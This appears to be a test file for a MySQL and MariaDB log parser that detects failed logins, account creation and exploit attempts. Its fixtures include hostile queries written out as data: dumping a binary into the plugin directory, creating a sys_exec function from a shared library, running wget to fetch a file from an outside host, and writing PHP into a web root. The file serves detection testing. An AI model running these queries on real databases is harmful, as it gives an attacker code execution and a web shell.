import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { draftsOf } from '../../../test/logs.ts'
import { mysqlLog } from './mysql-log.ts'

const told = (...lines: string[]) =>
  draftsOf(mysqlLog, '/var/log/mysql/error.log', ...lines).map(d =>
    [d.verb, d.outcome, d.user, d.target, d.address, d.method, d.path, d.attack].filter(x => x !== undefined).join(' '),
  )

test('error logs of MySQL 8 and MariaDB', () => {
  assert.deepEqual(
    told(
      "2026-11-22T01:02:03.123456Z 12 [Note] [MY-010926] [Server] Access denied for user 'root'@'203.0.113.9' (using password: YES)",
      "2026-11-22  1:02:03 12 [Warning] Access denied for user 'root'@'203.0.113.9' (using password: NO)",
      '2026-11-22 01:02:03 0 [Note] /usr/sbin/mariadbd: ready for connections.',
      "2026-11-22T01:02:03.123456Z 0 [System] [MY-010931] [Server] /usr/sbin/mysqld: ready for connections. Version: '8.0.40'",
    ),
    ['login-failed failure root 203.0.113.9 password', 'login-failed failure root 203.0.113.9 no password', 'unit started', 'unit started'],
  )
})

test('general, slow and audit logs', () => {
  assert.deepEqual(
    told(
      '2026-11-22T01:02:03.123456Z\t   12 Connect\troot@203.0.113.9 on mysql using TCP/IP',
      "2026-11-22T01:02:03.223456Z\t   12 Query\tselect 0x7f454c46 into dumpfile '/usr/lib/mysql/plugin/x.so'",
      "2026-11-22T01:02:03.323456Z\t   12 Query\tCREATE FUNCTION sys_exec RETURNS int SONAME 'x.so'",
      "2026-11-22T01:02:03.423456Z\t   12 Query\tSELECT sys_exec('wget http://198.51.100.5/a -O /tmp/a')",
      "261122  1:02:03\t    7 Connect\tAccess denied for user 'a'@'203.0.113.9' (using password: YES)",
      "\t\t    7 Query\tcreate user 'x'@'%' identified by 'y'",
      '# Time: 2026-11-22T01:02:05.000000Z',
      '# User@Host: web[web] @ app1 [203.0.113.10]  Id:    15',
      "select '<?php' into outfile '/var/www/html/a.php';",
      "20261122 01:02:03,db1,root,203.0.113.9,15,99,QUERY,mysql,'create function sys_eval returns string soname \\'y.so\\'',0",
      '20261122 01:02:03,db1,root,203.0.113.9,15,0,FAILED_CONNECT,,,1045',
    ),
    [
      'login success root 203.0.113.9 mysql',
      'exploit root 203.0.113.9 /usr/lib/mysql/plugin/x.so mysql-dumpfile-code',
      'exploit root sys_exec 203.0.113.9 x.so mysql-udf-soname',
      'exploit root 203.0.113.9 sys_exec mysql-udf-shell',
      'login-failed failure a 203.0.113.9 mysql',
      'account-changed x user',
      'exploit web 203.0.113.10 /var/www/html/a.php mysql-outfile-code',
      'exploit success root sys_eval 203.0.113.9 y.so mysql-udf-soname',
      'login-failed failure root 203.0.113.9 mysql',
    ],
  )
})

test('near misses: ordinary statements, words in texts', () => {
  assert.deepEqual(
    told(
      "2026-11-22T01:02:03.223456Z\t   12 Query\tselect * from posts where body like '%into dumpfile%'",
      '2026-11-22T01:02:03.223456Z\t   12 Query\tinsert into t values (\'create function x returns int soname "y.so"\')',
      '2026-11-22T01:02:03.223456Z\t   12 Query\tselect 1 from t where a = \'x into dumpfile "/a.so"\'',
      '2026-11-22T01:02:03.223456Z\t   12 Connect\tweb@localhost on shop using Socket',
      "2026-11-22T01:02:03.223456Z 12 [Note] [MY-010926] [Server] x Access denied for user 'root'@'10.9.9.9' (using password: YES)",
      '2026-11-22 01:02:03 0 [Note] InnoDB: Buffer pool(s) load completed',
    ),
    [],
  )
  assert.ok(
    mysqlLog.recognise("2026-11-22  1:02:03 12 [Warning] Access denied for user 'root'@'203.0.113.9' (using password: NO)\n", 'x') > 0.8,
  )
})

test('property: any text, no throw', () => {
  const piece = fc.oneof(fc.string({ maxLength: 60 }), fc.constantFrom(...mysqlLog.needles, "'", '\t   12 Query\t', '20261122 01:02:03,'))
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 8 }), pieces => void [...mysqlLog.open({ path: '/x', user: '' }).line(pieces.join(''))]),
  )
})
